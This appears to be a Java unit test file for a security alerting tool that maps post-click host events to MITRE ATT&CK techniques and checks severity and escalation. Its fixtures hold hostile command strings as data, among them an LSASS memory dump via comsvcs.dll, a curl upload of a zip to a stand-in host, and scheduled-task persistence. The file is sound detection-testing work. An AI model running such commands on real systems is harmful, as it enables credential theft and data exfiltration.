package io.clicktrail.alerter.aftermath;

import static io.clicktrail.alerter.TestCases.alert;
import static io.clicktrail.alerter.TestCases.answer;
import static io.clicktrail.alerter.TestCases.question;
import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.alert.Alert;
import io.clicktrail.alert.AnswerState;
import io.clicktrail.alert.Attack;
import io.clicktrail.alert.Severity;
import io.clicktrail.alerter.Stories;
import io.clicktrail.context.Authentication;
import io.clicktrail.context.ContextFact;
import io.clicktrail.context.ContextKind;
import io.clicktrail.context.FollowOn;
import java.time.Duration;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class FollowUpsTest {

    /** The process that the story's execution starts. */
    private static final String WSCRIPT = "5f2c-wscript";

    private static final ContextFact TASK = fact(
            "e1",
            120,
            "T1053.005",
            "Scheduled Task/Job: Scheduled Task",
            "TA0003",
            "Persistence",
            "a scheduled task was made",
            "schtasks /create /tn upd",
            "p1",
            WSCRIPT);

    @Test
    void whatTheChainsProcessesDidIsSaidWithItsTechnique() {
        Alert alert = alert(Stories.executed(), TASK);

        assertThat(answer(alert, "Q8"))
                .isEqualTo("Its processes: a scheduled task was made (Persistence, T1053.005) at 2026-03-03T09:16:07Z:"
                        + " schtasks /create /tn upd.");
        assertThat(question(alert, "Q8").getEventIds()).containsExactly("e1");
        assertThat(alert.getAttack()).extracting(Attack::getSubTechniqueId).contains("T1053.005");
        assertThat(alert.getSeverityReasons()).contains("what ran went on to persistence");
        assertThat(alert.getSeverity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void grandchildrenBelongToTheChain() {
        Alert alert = alert(
                Stories.executed(),
                TASK,
                fact(
                        "e2",
                        130,
                        "T1033",
                        "System Owner/User Discovery",
                        "TA0007",
                        "Discovery",
                        "x",
                        "whoami",
                        "p2",
                        "p1"));

        assertThat(answer(alert, "Q8"))
                .startsWith("Its processes: a scheduled task was made")
                .contains("whoami");
    }

    @Test
    void whatOthersDoOnTheHostIsKeptApartAndRaisesNothing() {
        Alert alert = alert(
                Stories.executed(),
                fact(
                        "e3",
                        600,
                        "T1033",
                        "System Owner/User Discovery",
                        "TA0007",
                        "Discovery",
                        "x",
                        "whoami",
                        "p9",
                        "it"));

        assertThat(answer(alert, "Q8"))
                .startsWith("Other processes of the host in the day after: x (Discovery, T1033)");
        assertThat(alert.getAttack()).extracting(Attack::getTechniqueId).doesNotContain("T1033");
    }

    @Test
    void goingForCredentialsIsAReasonForTierTwo() {
        Alert alert = alert(
                Stories.executed(),
                fact(
                        "e4",
                        60,
                        "T1003.001",
                        "OS Credential Dumping: LSASS Memory",
                        "TA0006",
                        "Credential Access",
                        "the memory of LSASS was saved",
                        "rundll32 comsvcs.dll, MiniDump",
                        "p4",
                        WSCRIPT));

        assertThat(alert.getSeverity()).isEqualTo(Severity.HIGH);
        assertThat(alert.getEscalation().getTier()).isEqualTo(2);
        assertThat(alert.getEscalation().getReasons()).contains("what ran went for credentials");
    }

    @Test
    void aCommandThatUploadsIsDataSentOut() {
        Alert alert = alert(
                Stories.executed(),
                fact(
                        "e5",
                        60,
                        "T1041",
                        "Exfiltration Over C2 Channel",
                        "TA0010",
                        "Exfiltration",
                        "a file was uploaded",
                        "curl -F f=@/tmp/out.zip https://x.example/u",
                        "p5",
                        WSCRIPT));

        assertThat(answer(alert, "Q16"))
                .startsWith("Yes, by a command: a file was uploaded (Exfiltration, T1041) at 2026-03-03T09:15:07Z:");
    }

    @Test
    void nothingKnownOfLiveProcessesIsANoAndNothingRunCannotBeKnown() {
        assertThat(answer(alert(Stories.executed()), "Q8"))
                .isEqualTo("No persistence, credential access, discovery, upload, further download or logon at another"
                        + " host is known of its processes.");
        assertThat(question(alert(Stories.contacted()), "Q8").getState()).isEqualTo(AnswerState.UNANSWERED);
    }

    @Test
    void aTaskThatRunsAFileOfTheChainIsTheChains() {
        Alert alert = alert(
                Stories.executed(),
                fact(
                        "e7",
                        300,
                        "T1053.005",
                        "Scheduled Task/Job: Scheduled Task",
                        "TA0003",
                        "Persistence",
                        "a scheduled task was made",
                        "\\upd = powershell.exe Mount-DiskImage C:\\Users\\alice\\Downloads\\Invoice-4711.iso",
                        null,
                        null));

        assertThat(answer(alert, "Q8")).startsWith("Its processes: a scheduled task was made (Persistence, T1053.005)");
    }

    @Test
    void placesThatItsProcessesConnectToAreNamedOnce() {
        ContextFact first = connection("c1", 60, "panel.top", WSCRIPT);
        Alert alert = alert(
                Stories.executed(),
                first,
                connection("c2", 70, "panel.top", WSCRIPT),
                connection("c3", 80, "update.example", "another"));

        assertThat(answer(alert, "Q8")).isEqualTo("They connected to panel[.]top.");
        assertThat(question(alert, "Q8").getEventIds()).containsExactly("c1");
        assertThat(alert.getAttack()).extracting(Attack::getTechniqueId).contains("T1071");
    }

    @Test
    void logonsAtHostsThatTheAccountNeverUsedAreAReasonForTierTwo() {
        Alert alert = alert(
                Stories.executed(),
                logon("l1", -86_400, Stories.HOST, 2, null),
                logon("l2", -80_000, "srv-file.corp.example", 3, "10.1.2.3"),
                logon("l3", 600, "srv-file.corp.example", 3, "10.1.2.3"),
                logon("l4", 900, "srv-db.corp.example", 10, "10.1.2.3"));

        assertThat(answer(alert, "Q8"))
                .isEqualTo("At other hosts: a logon at srv-file.corp.example (Lateral Movement, T1021) at"
                        + " 2026-03-03T09:24:07Z: corp\\alice from 10.1.2.3, over the network; a logon at"
                        + " srv-db.corp.example (Lateral Movement, T1021.001) at 2026-03-03T09:29:07Z: corp\\alice from"
                        + " 10.1.2.3; the account was not seen before at srv-db.corp.example.");
        assertThat(question(alert, "Q8").getEventIds()).containsExactly("l3", "l4");
        assertThat(alert.getEscalation().getReasons())
                .contains("logons followed at hosts that the account had not used before");
        assertThat(alert.getAttack()).extracting(Attack::getSubTechniqueId).contains("T1021.001");
    }

    @Test
    void logonsAtTheUsualHostsRaiseNothing() {
        Alert alert = alert(
                Stories.executed(),
                logon("l1", -80_000, "srv-file.corp.example", 3, "10.1.2.3"),
                logon("l2", 600, "srv-file.corp.example", 3, "10.1.2.3"));

        assertThat(answer(alert, "Q8")).startsWith("At other hosts: a logon at srv-file.corp.example");
        assertThat(alert.getEscalation().getReasons())
                .doesNotContain("logons followed at hosts that the account had not used before");
    }

    private static ContextFact connection(String id, int seconds, String place, String entity) {
        return ContextFact.newBuilder(fact(
                        id,
                        seconds,
                        "T1071",
                        "Application Layer Protocol",
                        "TA0011",
                        "Command and Control",
                        "a connection",
                        place,
                        entity,
                        null))
                .setKind(ContextKind.CONNECTION)
                .build();
    }

    private static ContextFact logon(String id, int seconds, String host, int type, @Nullable String ip) {
        return ContextFact.newBuilder()
                .setKind(ContextKind.LOGON)
                .setEventId(id)
                .setTime(Stories.CLICK_TIME.plus(Duration.ofSeconds(seconds)))
                .setDataset("windows.security")
                .setHost(host)
                .setUser("corp\\alice")
                .setAuthentication(Authentication.newBuilder()
                        .setAccount("corp\\alice")
                        .setLogonType(type)
                        .setIp(ip)
                        .build())
                .build();
    }

    @Test
    void anotherDayIsAnotherStory() {
        Alert alert = alert(
                Stories.executed(),
                fact(
                        "e6",
                        90_000,
                        "T1033",
                        "System Owner/User Discovery",
                        "TA0007",
                        "Discovery",
                        "x",
                        "y",
                        "p6",
                        WSCRIPT));

        assertThat(answer(alert, "Q8")).doesNotContain("T1033");
    }

    private static ContextFact fact(
            String id,
            int seconds,
            String technique,
            String name,
            String tactic,
            String tacticName,
            String what,
            String shown,
            @Nullable String entity,
            @Nullable String parent) {
        return ContextFact.newBuilder()
                .setKind(ContextKind.FOLLOW_ON)
                .setEventId(id)
                .setTime(Stories.CLICK_TIME.plus(Duration.ofSeconds(seconds)))
                .setDataset("windows.sysmon")
                .setHost(Stories.HOST)
                .setFollowOn(FollowOn.newBuilder()
                        .setTechnique(technique)
                        .setTechniqueName(name)
                        .setTactic(tactic)
                        .setTacticName(tacticName)
                        .setWhat(what)
                        .setShown(shown)
                        .setEntityId(entity)
                        .setParentEntityId(parent)
                        .setListVersion("2026-11-30")
                        .build())
                .build();
    }
}
